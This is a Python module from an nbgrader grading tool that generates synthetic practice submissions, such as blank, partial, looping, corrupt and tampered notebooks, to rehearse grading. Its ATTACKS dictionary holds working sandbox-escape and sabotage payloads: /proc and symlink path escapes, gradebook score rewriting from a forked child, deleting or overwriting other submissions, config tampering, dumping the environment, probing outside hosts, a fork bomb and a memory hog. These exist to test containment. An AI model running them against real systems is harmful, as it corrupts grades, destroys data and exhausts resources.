"""A synthetic practice class for a real course assignment, written into submitted/, and its removal.

Why: an instructor should rehearse the whole grading runbook (grade, flag, formgrader, report, feedback)
before real students hand anything in, on the course's own assignments and on the submissions that
go wrong in real classes: a full solution, a blank notebook, a partial one, an endless loop, a file that
is not JSON, and a locked test cell edited to ``pass``. Students are named ``practice-01``, ... and a
marker file in each student folder lets ``clean_practice`` remove exactly what ``write_practice_class`` wrote.
Every submission is made by ``make_submission``, the project's one factory of synthetic submissions, which
the grading tests use too (tests/assignment_harness.py, tests/fixtures/grading/synthetic_course.py).
Source: the nbgrader 0.9 course folder layout and ``collect`` step (Jupyter Development Team): notebooks in
``submitted/<student>/<assignment>/`` with a ``timestamp.txt``; student removal as in
``nbgrader db student remove`` (``nbgrader.api.Gradebook.remove_student``).
"""

from __future__ import annotations

import copy
import dataclasses
import datetime as dt
import os
import re
import shutil
from dataclasses import dataclass
from pathlib import Path

from .._validate import check_int, check_seed
from .course import ATTACKER_FILE, Course, CourseError, open_course

__all__ = [
    "SUBMISSION_KINDS",
    "make_submission",
    "solution_answers",
    "write_submission",
    "KINDS",
    "ATTACKS",
    "MARKER_FILE",
    "MIN_STUDENTS",
    "CleanResult",
    "is_practice_name",
    "write_practice_class",
    "clean_practice",
]

#: The kinds of practice submission; the first six students of every class hold one of each.
KINDS = ("solution", "blank", "partial", "endless_loop", "invalid_json", "edited_test")
#: Students beyond the first six are drawn from these kinds, with these probabilities.
_EXTRA_KINDS = ("solution", "partial", "blank")
_EXTRA_PROBS = (0.5, 0.3, 0.2)
#: A class must be big enough to hold one submission of each kind.
MIN_STUDENTS = len(KINDS)
MAX_STUDENTS = 999
#: Written in submitted/<practice student>/ (outside the assignment folder, so nbgrader never copies it).
MARKER_FILE = ".swarmcast-practice"
_NAME = re.compile(r"practice-\d{2,}")
_REPORT_FILES = ("grading_run.json", "students.csv", "questions.csv", "report.html", "similarity.html")

#: Attacker submissions (``write_practice_class(attackers=True)``, ``swarmcast practice --attackers``): each
#: puts one attack in the first code answer cell and leaves the other answers blank, so an attack that
#: works shows as marks, or as changed files, that a blank notebook cannot have. All are contained by the
#: grading sandbox (grading/sandbox.py); tests/test_sandbox.py proves it, serially and with two workers.
_FIND = '''import os, pathlib, sys

def _find(name):
    """Every path called `name` this code can reach: up from here, ../.., /proc tricks, a planted symlink."""
    here = pathlib.Path.cwd()
    starts = [here, pathlib.Path("/proc/1/root") / str(here).lstrip("/"), pathlib.Path("/proc/1/cwd"),
              pathlib.Path("/proc/self/root") / str(here).lstrip("/"), pathlib.Path("/proc/self/cwd")]
    try:  # a symlink planted in the scratch folder, pointing out of it
        os.symlink("/", "escape")
        starts.append(pathlib.Path("escape") / str(here).lstrip("/"))
    except OSError:
        pass
    starts += [pathlib.Path("../" * up) for up in range(1, 8)]
    found = []
    for start in starts:
        for d in [start, *start.parents]:
            try:
                if (d / name).exists() and (d / name).resolve() not in found:
                    found.append((d / name).resolve())
            except OSError:
                pass
    return found

'''

ATTACKS = {
    # (a) write the gradebook: full marks and extra credit for everyone, the attacker included
    "attack_gradebook": _FIND + '''import sqlite3, time
def _write(quiet=False):
    for db in _find("gradebook.db"):
        try:
            con = sqlite3.connect(db, timeout=1)
            con.execute("UPDATE grade SET auto_score = 100, manual_score = 100, extra_credit = 20")
            con.commit()
            quiet or print("ATTACK gradebook: wrote", db)
        except Exception as exc:
            quiet or print("ATTACK gradebook: refused", db, exc)
_write()
if os.fork() == 0:  # outlive this notebook: the rows of this and later students are written after it
    os.setsid()
    for _ in range(15):
        time.sleep(2)
        _write(quiet=True)
    os._exit(0)
print("ATTACK gradebook: done")
''',
    # (b) overwrite every other submitted notebook with this blank one; a detached child tries again later
    "attack_overwrite": _FIND + '''import glob, shutil, subprocess
mine = sorted(glob.glob("*.ipynb"))
def _overwrite():
    for sub in _find("submitted") + _find("autograded"):
        for nb in sub.glob("*/*/*.ipynb"):
            try:
                if mine and nb.resolve() != pathlib.Path(mine[0]).resolve():
                    shutil.copyfile(mine[0], nb)
                    print("ATTACK overwrite: wrote", nb)
            except OSError as exc:
                print("ATTACK overwrite: refused", nb, exc)
_overwrite()
if os.fork() == 0:  # outlive the grading of this notebook, then overwrite the next students
    os.setsid()
    import time
    time.sleep(8)
    _overwrite()
    os._exit(0)
print("ATTACK overwrite: done")
''',
    # (c) delete every other submission
    "attack_delete": _FIND + '''import shutil
here = pathlib.Path.cwd().resolve()
for sub in _find("submitted"):
    for folder in sub.glob("*/*"):
        if folder.resolve() != here:
            shutil.rmtree(folder, ignore_errors=True)
            print("ATTACK delete: tried", folder, "gone" if not folder.exists() else "still there")
print("ATTACK delete: done")
''',
    # (d) change the course configuration for every later run
    "attack_config": _FIND + '''for cfg in _find("nbgrader_config.py"):
    try:
        with open(cfg, "a") as fh:
            fh.write("\\nc.Execute.timeout = 1  # appended by a student\\n")
        print("ATTACK config: appended to", cfg)
    except OSError as exc:
        print("ATTACK config: refused", cfg, exc)
print("ATTACK config: done")
''',
    # (e) read the instructor's source notebook and run its solution cells
    "attack_solutions": _FIND + '''import glob, json
mine = {pathlib.Path(p).name for p in glob.glob("*.ipynb")}
for folder in _find("solutions") + _find("source"):
    for nb in folder.glob("*/*.ipynb"):
        if nb.name not in mine:
            continue
        for cell in json.loads(nb.read_text())["cells"]:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if cell["cell_type"] == "code" and meta.get("solution"):
                exec("".join(cell["source"]), globals())
        print("ATTACK solutions: ran the solution cells of", nb)
print("ATTACK solutions: done; environment seen:", sorted(os.environ.items()))
''',
    # (f) the network: every listening port of this machine, then an outside address
    "attack_network": '''import socket
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        for line in open(table).read().splitlines()[1:]:
            if line.split()[3] == "0A":  # LISTEN
                ports.add(int(line.split()[1].rsplit(":", 1)[1], 16))
    except OSError:
        pass
for host, port in [("127.0.0.1", p) for p in sorted(ports)] + [("127.0.0.1", 22), ("151.101.0.223", 443), ("1.1.1.1", 53)]:
    try:
        socket.create_connection((host, port), timeout=3).sendall(b"ATTACK")
        print("ATTACK network: connected to", host, port)
    except OSError as exc:
        print("ATTACK network: no connection to", host, port, exc)
print("ATTACK network: done")
''',
    # (g) fork without limit
    "attack_fork_bomb": '''import os
while True:
    os.fork()
''',
    # (h) allocate 20 GB
    "attack_memory": '''import numpy as np
hog = bytearray(20 * 10**9)
hog2 = np.ones(20 * 10**9 // 8)
''',
    # (i) sleep past the time limit, deaf to the interrupt
    "attack_sleep": '''import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
time.sleep(10**6)
''',
}


def is_practice_name(student: str) -> bool:
    """True for the names practice classes use (practice-01, practice-123)."""
    return bool(_NAME.fullmatch(str(student)))


# ------------------------------------------------------------------------------------------------
# The one factory of synthetic submissions (practice classes here, and every grading test)
# ------------------------------------------------------------------------------------------------

#: The kinds of synthetic submission ``make_submission`` writes; every kind in ``ATTACKS`` is one too.
#: perfect: every answer right; blank: the release untouched; partial: some answers; tampered: locked test
#: cells edited to ``pass``; deleted: test cells deleted; loop: an answer that never ends; kernel_death:
#: an answer that kills the kernel; invalid_json: a file cut short; equality_cheat: answers that fake
#: the right result (``==`` always True, ...); cheat: answers that fool the tests otherwise (rebinding
#: the names tests use, hard-coding what the visible tests expect, reading the gradebook).
SUBMISSION_KINDS = ("perfect", "blank", "partial", "tampered", "deleted", "loop", "kernel_death", "invalid_json",
                    "equality_cheat", "cheat")

#: What the ``loop`` kind puts at the start of its answer (or of its answer's function, ``in_function``).
_LOOP = (
    "# This loop never ends: grading stops it at the time limit.\n"
    "import time\n"
    "while True:\n"
    "    time.sleep(0.01)\n"
)
_KERNEL_DEATH = "import os\nos._exit(1)  # the kernel dies here\n"
_EDITED_TEST = "pass  # the tests were deleted from this locked cell"


def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {}) or {}


def solution_answers(source, *, begin: str = "BEGIN SOLUTION", end: str = "END SOLUTION") -> dict[str, str]:
    """Answer grade id -> the solution as a student would type it (delimiter lines removed), from a source notebook."""
    return {
        _meta(c)["grade_id"]: "\n".join(ln for ln in c.source.splitlines() if begin not in ln and end not in ln).strip("\n")
        for c in source.cells
        if _meta(c).get("solution") and _meta(c).get("grade_id")
    }


def _looping(source: str, in_function: bool) -> str:
    """``source`` with ``_LOOP`` first: at the top of the cell, or at the start of its first function's body
    (after the docstring), so that the test calling the function is what loops."""
    if not in_function:
        return _LOOP + "\n" + source
    import ast

    func = next((n for n in ast.parse(source).body if isinstance(n, ast.FunctionDef)), None)
    if func is None:
        raise ValueError("in_function=True needs an answer that defines a function")
    body = func.body
    doc = isinstance(body[0], ast.Expr) and isinstance(getattr(body[0], "value", None), ast.Constant) and len(body) > 1
    first = body[1] if doc else body[0]
    lines = source.split("\n")
    indent = " " * first.col_offset
    loop = [indent + ln for ln in _LOOP.rstrip("\n").split("\n")]
    return "\n".join(lines[: first.lineno - 1] + loop + lines[first.lineno - 1:])


def make_submission(released, kind: str, *, answers=None, cell: str | None = None, tests=None, prelude: str = "",
                    in_function: bool = False):
    """One synthetic submission of ``kind`` (``SUBMISSION_KINDS`` or ``ATTACKS``), made from the released notebook.

    Why: practice classes and every grading test need the submissions real classes hand in, written one
    way. ``answers``: grade id -> what the student typed in that answer cell (the others stay as released;
    ``solution_answers`` gives the perfect ones). ``cell``: the code answer that loops, kills the kernel or
    holds the attack (default: the first). ``tests``: the test cells tampered with or deleted (default:
    all). ``prelude``: code put before the first code answer (rebinding names a test may use).
    ``in_function``: the loop goes inside the answer's function, and the plain code cells (that would call
    it again) are deleted, so that only the test calling it runs past the time limit.
    Returns the notebook (nbformat node), or for ``invalid_json`` the text of a file cut short.
    Source: nbgrader 0.9 cell metadata (``nbgrader.grade_id``, ``solution``, ``grade``, ``locked``).
    """
    if kind not in SUBMISSION_KINDS and kind not in ATTACKS:
        raise ValueError(f"kind must be one of {', '.join((*SUBMISSION_KINDS, *ATTACKS))}; got {kind!r}")
    answers = dict(answers or {})
    if kind == "blank" and (answers or prelude):
        raise ValueError("a blank submission takes no answers and no prelude")
    if cell is not None and kind not in ("loop", "kernel_death") and kind not in ATTACKS:
        raise ValueError(f"cell is for the loop, kernel_death and attacker kinds only; got it with {kind!r}")
    if tests is not None and kind not in ("tampered", "deleted"):
        raise ValueError(f"tests is for the tampered and deleted kinds only; got it with {kind!r}")
    if in_function and kind != "loop":
        raise ValueError(f"in_function is for the loop kind only; got it with {kind!r}")
    ids = {_meta(c).get("grade_id") for c in released.cells if _meta(c).get("solution")}
    code = [_meta(c)["grade_id"] for c in released.cells if _meta(c).get("solution") and c.cell_type == "code"]
    all_tests = [_meta(c)["grade_id"] for c in released.cells
                 if c.cell_type == "code" and _meta(c).get("grade") and not _meta(c).get("solution")]
    unknown = sorted(set(answers) - ids) + sorted(set(tests or ()) - set(all_tests))
    if unknown:
        raise ValueError(f"no such answer or test cell in the notebook: {', '.join(unknown)}")
    target = code[0] if cell is None and code else cell
    if (kind in ATTACKS or kind in ("loop", "kernel_death")) and target not in code:
        raise ValueError(f"cell must be a code answer cell ({', '.join(code) or 'the notebook has none'}); got {cell!r}")
    stub = {_meta(c)["grade_id"]: c.source for c in released.cells if _meta(c).get("grade_id") in ids}
    if kind in ATTACKS:
        answers[target] = f"# Practice attacker ({kind}): the grading sandbox must contain this.\n" + ATTACKS[kind]
    elif kind == "loop":
        answers[target] = _looping(answers.get(target, stub[target]), in_function)
    elif kind == "kernel_death":
        answers[target] = _KERNEL_DEATH + answers.get(target, stub[target])
    if prelude and code:
        answers[code[0]] = prelude + "\n" + answers.get(code[0], stub[code[0]])
    edited = set(all_tests if tests is None else tests)
    nb = copy.deepcopy(released)
    for c in nb.cells:
        gid = _meta(c).get("grade_id")
        if gid in answers and _meta(c).get("solution"):
            c.source = answers[gid]
        elif kind == "tampered" and gid in edited:
            c.source = _EDITED_TEST
    if kind == "deleted":
        nb.cells = [c for c in nb.cells if _meta(c).get("grade_id") not in edited]
    if kind == "loop" and in_function:
        nb.cells = [c for c in nb.cells if c.cell_type == "markdown" or _meta(c)]
    if kind == "invalid_json":
        import nbformat

        text = nbformat.writes(nb)
        return text[: len(text) * 3 // 5]  # cut short in the middle, as an interrupted upload leaves it
    return nb


def write_submission(folder: str | os.PathLike, name: str, submission, *, timestamp: str | None = None) -> Path:
    """Write ``submission`` (from ``make_submission``) as ``folder/name``, and ``timestamp.txt`` as ``nbgrader collect`` does."""
    import nbformat

    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    text = submission if isinstance(submission, str) else nbformat.writes(submission)
    path = folder / name
    path.write_text(text + ("\n" if not text.endswith("\n") else ""), encoding="utf-8")
    if timestamp is not None:
        (folder / "timestamp.txt").write_text(timestamp, encoding="utf-8")
    return path


# ------------------------------------------------------------------------------------------------
# The assignment's cells
# ------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Notebook:
    name: str  # file name, e.g. a01_counting_propaganda.ipynb
    released: dict  # the released notebook (nbformat node, deep-copied before each change)
    solutions: dict  # answer grade_id -> solution text (delimiter lines removed)
    code_answers: tuple[str, ...]  # grade ids of code answer cells, in notebook order
    written_answers: tuple[str, ...]  # grade ids of markdown answer cells (graded by hand)
    tests: tuple[tuple[str, tuple[str, ...]], ...]  # (test grade_id, the code answers it follows)


def _read_assignment(course: Course, cfg, assignment: str) -> list[_Notebook]:
    """Pair each released notebook with its source notebook; fail if the release is missing or stale."""
    import nbformat

    src = course.folder(course.source_directory) / assignment
    rel = course.folder(course.release_directory) / assignment
    released = sorted(rel.glob("*.ipynb")) if rel.is_dir() else []
    if not released:
        raise CourseError(
            f"no released notebooks in {rel}: run `swarmcast release {assignment}` first "
            "(a practice class is built from the student version)."
        )
    begin = cfg.ClearSolutions.get("begin_solution_delimeter", "BEGIN SOLUTION") if "ClearSolutions" in cfg else "BEGIN SOLUTION"
    end = cfg.ClearSolutions.get("end_solution_delimeter", "END SOLUTION") if "ClearSolutions" in cfg else "END SOLUTION"
    stale = f"{rel} is out of date with {src}: run `swarmcast release {assignment}` first."
    out = []
    for path in released:
        source_path = src / path.name
        if not source_path.is_file():
            raise CourseError(f"{path.name} is released but has no source notebook {source_path}. {stale}")
        rel_nb = nbformat.read(path, as_version=4)
        src_nb = nbformat.read(source_path, as_version=4)
        solutions = solution_answers(src_nb, begin=begin, end=end)
        code, written, tests, pending = [], [], [], []
        for cell in rel_nb.cells:
            m = _meta(cell)
            gid = m.get("grade_id")
            if not gid:
                continue
            if m.get("solution"):
                if gid not in solutions:
                    raise CourseError(f"answer cell {gid!r} of {path.name} is not in the source notebook. {stale}")
                (code if cell.cell_type == "code" else written).append(gid)
                if cell.cell_type == "code":
                    pending.append(gid)
            elif m.get("grade") and cell.cell_type == "code":
                tests.append((gid, tuple(pending)))
                pending = []
        missing = sorted(set(solutions) - set(code) - set(written))
        if missing:
            raise CourseError(f"answer cells {', '.join(missing)} of {path.name} are not in the release. {stale}")
        out.append(_Notebook(path.name, rel_nb, solutions, tuple(code), tuple(written), tuple(tests)))
    return out


# ------------------------------------------------------------------------------------------------
# The class plan (which student gets which kind), from the seed only
# ------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Plan:
    student: str
    kind: str
    fill: frozenset[str]  # answer grade ids filled with the solution
    loop_cell: str = ""
    edited_test: str = ""
    attack_cell: str = ""  # the code answer cell that holds the attack (attackers only)


def _plan(notebooks: list[_Notebook], n_students: int, seed: int) -> list[_Plan]:
    import numpy as np

    rng = np.random.default_rng(seed)
    code = [g for nb in notebooks for g in nb.code_answers]
    written = [g for nb in notebooks for g in nb.written_answers]
    tests = [t for nb in notebooks for t in nb.tests if t[1]]  # tests that follow at least one answer
    everything = frozenset(code) | frozenset(written)
    extra = rng.choice(len(_EXTRA_KINDS), size=n_students - len(KINDS), p=_EXTRA_PROBS)
    kinds = np.array(list(KINDS) + [_EXTRA_KINDS[i] for i in extra])
    kinds = kinds[rng.permutation(n_students)]
    width = max(2, len(str(n_students)))
    plans = []
    for i, kind in enumerate(str(k) for k in kinds):
        name = f"practice-{i + 1:0{width}d}"
        if kind == "blank":
            plans.append(_Plan(name, kind, frozenset()))
        elif kind == "partial":
            k = int(rng.integers(1, len(code))) if len(code) >= 2 else 0
            chosen = {code[j] for j in rng.choice(len(code), size=k, replace=False)} if k else set()
            chosen |= {w for w in written if rng.random() < 0.5}
            plans.append(_Plan(name, kind, frozenset(chosen)))
        elif kind == "endless_loop" and code:
            plans.append(_Plan(name, kind, everything, loop_cell=code[int(rng.integers(len(code)))]))
        elif kind == "edited_test" and tests:
            test_id, answers = tests[int(rng.integers(len(tests)))]
            plans.append(_Plan(name, kind, everything - set(answers), edited_test=test_id))
        else:  # solution, invalid_json (and a loop or edited test with no code answers to use)
            plans.append(_Plan(name, kind, everything))
    return plans


def _expectation(plan: _Plan, code: list[str]) -> str:
    """What the grading run should show for this student: the instructor checks it while rehearsing."""
    if plan.kind in ATTACKS:
        what = plan.kind.removeprefix("attack_").replace("_", " ")
        return (f"attacker ({what}): contained by the sandbox, no marks; every other student's score and every "
                "course file unchanged")
    filled = [g for g in code if g in plan.fill]
    if plan.kind == "solution":
        return "full marks on the tests; written answers to grade in formgrader"
    if plan.kind == "blank":
        return "0: the released notebook, untouched"
    if plan.kind == "partial":
        return f"tests after {', '.join(filled)} pass; the others 0" if filled else "0: no code answer filled"
    if plan.kind == "endless_loop" and plan.loop_cell:
        return f"{plan.loop_cell} loops: stopped at the time limit, its test 0 (under notes)"
    if plan.kind == "invalid_json":
        return "not graded: the file is cut short (not valid JSON)"
    if plan.kind == "edited_test" and plan.edited_test:
        return f"{plan.edited_test} edited to `pass`, answer blank: test put back, 0; `flag` lists it"
    return "full marks on the tests"


def _submission(nb: _Notebook, plan: _Plan, *, first: bool):
    """One notebook of a practice student, from the factory (``first``: the assignment's first notebook)."""
    answers = {gid: text for gid, text in nb.solutions.items() if gid in plan.fill}
    if plan.kind in ATTACKS:
        if plan.attack_cell in nb.code_answers:
            return make_submission(nb.released, plan.kind, cell=plan.attack_cell)
        return make_submission(nb.released, "blank")
    if plan.kind == "endless_loop" and plan.loop_cell in nb.code_answers:
        return make_submission(nb.released, "loop", answers=answers, cell=plan.loop_cell)
    if plan.kind == "edited_test" and plan.edited_test in {t for t, _ in nb.tests}:
        return make_submission(nb.released, "tampered", answers=answers, tests=[plan.edited_test])
    if plan.kind == "invalid_json" and first:  # only the first notebook is broken; the others are solutions
        return make_submission(nb.released, "invalid_json", answers=answers)
    if not answers:
        return make_submission(nb.released, "blank")
    return make_submission(nb.released, "perfect" if set(answers) == set(nb.solutions) else "partial", answers=answers)


# ------------------------------------------------------------------------------------------------
# Which folders belong to practice students
# ------------------------------------------------------------------------------------------------


def _is_practice(course: Course, student: str) -> bool:
    """A practice name, and not a submitted folder that swarmcast did not write (that one is real)."""
    if not is_practice_name(student):
        return False
    folder = course.folder(course.submitted_directory) / student
    return not folder.exists() or (folder / MARKER_FILE).is_file()


def _students_in(folder: Path, assignment: str) -> list[str]:
    if not folder.is_dir():
        return []
    return sorted(p.name for p in folder.iterdir() if (p / assignment).is_dir())


def _gradebook_students(course: Course, assignment: str) -> list[str]:
    path = course.gradebook_path
    if path is not None and not path.is_file():
        return []
    from nbgrader.api import Gradebook, MissingEntry

    with Gradebook(course.db_url, course.course_id) as gb:
        try:
            return sorted(s.student.id for s in gb.find_assignment(assignment).submissions)
        except MissingEntry:
            return []


def _remove_empty(folder: Path) -> None:
    """Remove a student folder left with nothing but our marker."""
    if folder.is_dir() and all(p.name in (MARKER_FILE, ATTACKER_FILE) for p in folder.iterdir()):
        shutil.rmtree(folder)


# ------------------------------------------------------------------------------------------------
# Public functions
# ------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class CleanResult:
    """What ``clean_practice`` removed, folder by folder, and the practice-named folders it left alone."""

    assignment: str
    students: tuple[str, ...]
    submitted: int
    autograded: int
    feedback: int
    gradebook_submissions: int
    gradebook_students: int
    report_files: int
    report_needs_refresh: bool
    skipped: tuple[str, ...] = ()


def clean_practice(*, course_dir: str | os.PathLike, assignment: str) -> CleanResult:
    """Remove the practice students of one assignment from submitted/, autograded/, feedback/, the gradebook and reports.

    Why: after a rehearsal the course folder must be as before it, so that no practice student reaches
    the real grade export (``nbgrader export``) or the class report. Real students are never touched:
    only ``practice-NN`` folders that carry the practice marker (or have no submitted folder at all).
    Source: nbgrader 0.9 ``Gradebook.remove_submission`` and ``remove_student`` (``nbgrader db student remove``).
    """
    course, _ = open_course(course_dir=course_dir)
    assignment = course.check_assignment(assignment)
    dirs = {
        "submitted": course.folder(course.submitted_directory),
        "autograded": course.folder(course.autograded_directory),
        "feedback": course.folder(course.feedback_directory),
    }
    on_disk = {key: _students_in(folder, assignment) for key, folder in dirs.items()}
    in_gradebook = _gradebook_students(course, assignment)
    named = sorted({s for names in on_disk.values() for s in names} | set(in_gradebook))
    named = [s for s in named if is_practice_name(s)]
    students = [s for s in named if _is_practice(course, s)]
    skipped = tuple(s for s in named if s not in students)

    removed = {}
    for key, folder in dirs.items():
        removed[key] = 0
        for s in students:
            if s in on_disk[key]:
                shutil.rmtree(folder / s / assignment)
                removed[key] += 1
            if key == "submitted":
                _remove_empty(folder / s)
            elif (folder / s).is_dir() and not any((folder / s).iterdir()):
                (folder / s).rmdir()

    n_subs = n_students = 0
    gone = [s for s in students if s in in_gradebook]
    path = course.gradebook_path
    if path is None or path.is_file():
        from nbgrader.api import Gradebook

        with Gradebook(course.db_url, course.course_id) as gb:
            for s in gone:
                gb.remove_submission(assignment, s)
                n_subs += 1
                if not gb.find_student(s).submissions:
                    gb.remove_student(s)
                    n_students += 1
            # practice students named in the gradebook but never graded (no submission at all)
            for st in list(gb.students):
                if st.id in students and st.id not in gone and not st.submissions:
                    gb.remove_student(st.id)
                    n_students += 1

    # The run record and report of the assignment: drop practice students; remove files that had only them.
    from . import parallel

    out = course.reports_root / assignment
    run = parallel.load_run(path=out / "grading_run.json")
    n_report, refresh = 0, False
    if run is not None:
        kept = tuple(r for r in run.results if not (is_practice_name(r.student) and r.student not in skipped))
        left = [s for s in _gradebook_students(course, assignment) if s not in students]
        if kept or left:
            if len(kept) != len(run.results):
                parallel.save_run(run=parallel.GradeRun(run.assignment, run.workers, kept, run.seconds, run.log_path, run.sandboxed),
                                  path=out / "grading_run.json")
                refresh = True
        else:
            for name in _REPORT_FILES:
                if (out / name).is_file():
                    (out / name).unlink()
                    n_report += 1
            if out.is_dir() and not any(out.iterdir()):
                out.rmdir()
    for folder in (*dirs.values(), course.reports_root):  # nbgrader makes them again when needed
        if folder.is_dir() and not any(folder.iterdir()):
            folder.rmdir()
    return CleanResult(assignment, tuple(students), removed["submitted"], removed["autograded"], removed["feedback"],
                       n_subs, n_students, n_report, refresh, skipped)


#: Made-up first names for the practice roster (formgrader and the export show names, as with a real roster).
_FIRST_NAMES = ("Ada", "Bea", "Cai", "Dev", "Eli", "Fay", "Gus", "Hana", "Ivo", "Jun", "Kai", "Lea", "Max", "Noor", "Oli", "Pia")


def _name_students(course: Course, students: list[str]) -> None:
    """Give the practice students names and emails in the gradebook, as `swarmcast roster import` does for a class."""
    path = course.gradebook_path
    if path is not None and not path.is_file():
        return  # no gradebook yet: nbgrader creates the students (nameless) when grading
    from nbgrader.api import Gradebook

    with Gradebook(course.db_url, course.course_id) as gb:
        for i, s in enumerate(students):
            gb.update_or_create_student(s, first_name=_FIRST_NAMES[i % len(_FIRST_NAMES)], last_name="Practice",
                                        email=f"{s}@example.invalid")


def write_practice_class(
    *,
    course_dir: str | os.PathLike,
    assignment: str,
    n_students: int = 12,
    seed: int = 0,
    force: bool = False,
    submitted_at: dt.datetime | None = None,
    attackers: bool = False,
) -> pd.DataFrame:
    """Write a synthetic class for a real assignment into submitted/practice-NN/<assignment>/; return who got what.

    Why: runbook "Practice run": the instructor rehearses grading on the course's own assignment, and
    checks each student's line of the grading summary against the ``expect`` column. Built from the
    released notebook, with answer cells filled from the source notebook's solutions (hidden tests are
    never copied). The first six students hold one of each kind in ``KINDS`` (shuffled); the rest are
    solutions, partial or blank; the same seed gives the same class. ``timestamp.txt`` is written as
    ``nbgrader collect`` leaves it, ``submitted_at`` (default: now, UTC) minus one minute per student.
    With ``attackers``, one attacker per kind in ``ATTACKS`` comes first (practice-01, ...): its first code
    answer holds the attack (write the gradebook, overwrite or delete other submissions, edit the course
    config, run the solutions, open sockets, fork bomb, 20 GB, sleep past the time limit), to rehearse
    that the grading sandbox contains them.
    Refuses (CourseError) when real submissions of the assignment are in submitted/ or a practice-NN
    folder was not written by this function, and when practice students exist unless ``force``; with
    ``force`` it first removes the assignment's practice students as ``clean_practice`` does.
    Source: nbgrader 0.9 course folder layout and ``collect`` (Jupyter Development Team).
    """
    n_students = check_int("n_students", n_students, low=MIN_STUDENTS, high=MAX_STUDENTS)
    seed = check_seed(seed)
    submitted_at = _check_write_args(force=force, attackers=attackers, submitted_at=submitted_at)
    course, cfg = open_course(course_dir=course_dir)
    assignment = course.check_assignment(assignment)
    notebooks = _read_assignment(course, cfg, assignment)
    total = n_students + (len(ATTACKS) if attackers else 0)
    names = [f"practice-{i + 1:0{max(2, len(str(total)))}d}" for i in range(total)]
    _refuse_to_overwrite(course, assignment, names, force=force)
    clean_practice(course_dir=course.root, assignment=assignment)  # old practice grades, feedback, reports

    plans = _plan(notebooks, n_students, seed)
    code = [g for nb in notebooks for g in nb.code_answers]
    if attackers:
        if not code:
            raise CourseError(f"{assignment} has no code answer cell: attackers need one to hold their code.")
        attack_plans = [_Plan(names[i], kind, frozenset(), attack_cell=code[0]) for i, kind in enumerate(ATTACKS)]
        plans = attack_plans + [dataclasses.replace(p, student=names[len(ATTACKS) + i]) for i, p in enumerate(plans)]
    rows = []
    for i, plan in enumerate(plans):
        stamp = submitted_at - dt.timedelta(minutes=len(plans) - i)
        _write_student(course, assignment, notebooks, plan, stamp.strftime("%Y-%m-%d %H:%M:%S.%f UTC"))
        rows.append({
            "student": plan.student,
            "kind": plan.kind,
            "answers_filled": ",".join(g for nb in notebooks for g in (*nb.code_answers, *nb.written_answers) if g in plan.fill),
            "loop_cell": plan.loop_cell,
            "edited_test": plan.edited_test,
            "expect": _expectation(plan, code),
        })
    import pandas as pd

    df = pd.DataFrame(rows, columns=["student", "kind", "answers_filled", "loop_cell", "edited_test", "expect"])
    _name_students(course, [p.student for p in plans])
    df.attrs["simulated"] = True
    df.attrs["assignment"] = assignment
    df.attrs["seed"] = seed
    return df


def _check_write_args(*, force, attackers, submitted_at) -> dt.datetime:
    """Refuse a wrong flag or time; return the submission time in UTC (default: now)."""
    if not isinstance(force, bool):
        raise ValueError(f"force must be True or False; got {force!r}")
    if not isinstance(attackers, bool):
        raise ValueError(f"attackers must be True or False; got {attackers!r}")
    if submitted_at is None:
        return dt.datetime.now(dt.timezone.utc)
    if not isinstance(submitted_at, dt.datetime):
        raise ValueError(f"submitted_at must be a datetime or None; got {submitted_at!r}")
    return submitted_at.astimezone(dt.timezone.utc) if submitted_at.tzinfo is not None else submitted_at


def _refuse_to_overwrite(course: Course, assignment: str, names: list[str], *, force: bool) -> None:
    """CourseError when real submissions, foreign practice-NN folders or (without ``force``) a practice class are there."""
    submitted_dir = course.folder(course.submitted_directory)
    submitted = course.submitted_students(assignment)
    real = [s for s in submitted if not is_practice_name(s)]
    if real:
        shown = ", ".join(real[:5]) + (f" and {len(real) - 5} more" if len(real) > 5 else "")
        raise CourseError(
            f"{submitted_dir} already holds real submissions of {assignment} ({shown}): practice students would be "
            "graded, reported and exported with them. Rehearse in a copy of the course folder instead "
            "(copy it, then add --course-dir PATH)."
        )
    foreign = sorted(s for s in set(names) | set(submitted)
                     if is_practice_name(s) and (submitted_dir / s).exists() and not _is_practice(course, s))
    if foreign:
        raise CourseError(
            f"{', '.join(str(submitted_dir / s) for s in foreign)} was not written by `swarmcast practice` "
            f"(no {MARKER_FILE} file in it): it may be a real student's folder, so nothing was written. Move it "
            "away, or rehearse in a copy of the course folder."
        )
    existing = [s for s in submitted if is_practice_name(s)]
    if existing and not force:
        raise CourseError(
            f"{submitted_dir} already holds {len(existing)} practice students for {assignment} "
            f"({existing[0]} ... {existing[-1]}): add --force to replace them, or remove them with "
            f"`swarmcast practice {assignment} --clean`."
        )


def _write_student(course: Course, assignment: str, notebooks: list[_Notebook], plan: _Plan, stamp: str) -> None:
    """submitted/<student>/<assignment>/: the notebooks, the assignment's data files, timestamp.txt; and our markers."""
    student_dir = course.folder(course.submitted_directory) / plan.student
    folder = student_dir / assignment
    folder.mkdir(parents=True, exist_ok=True)
    (student_dir / MARKER_FILE).write_text(
        "Written by `swarmcast practice`: a synthetic student. Remove with `swarmcast practice ASSIGNMENT --clean`.\n",
        encoding="utf-8",
    )
    if plan.kind in ATTACKS:
        (student_dir / ATTACKER_FILE).write_text(
            f"{plan.kind}: a practice attacker. Grade it only in the sandbox (never with --unsandboxed).\n", encoding="utf-8")
    release = course.folder(course.release_directory) / assignment
    extras = [p for p in sorted(release.rglob("*")) if p.is_file() and p.suffix != ".ipynb"
              and not any(part.startswith(".") for part in p.relative_to(release).parts)]
    for path in extras:  # data files handed out with the assignment, as a student would submit them
        dest = folder / path.relative_to(release)
        dest.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(path, dest)
    for j, nb in enumerate(notebooks):
        write_submission(folder, nb.name, _submission(nb, plan, first=j == 0))
    (folder / "timestamp.txt").write_text(stamp, encoding="utf-8")
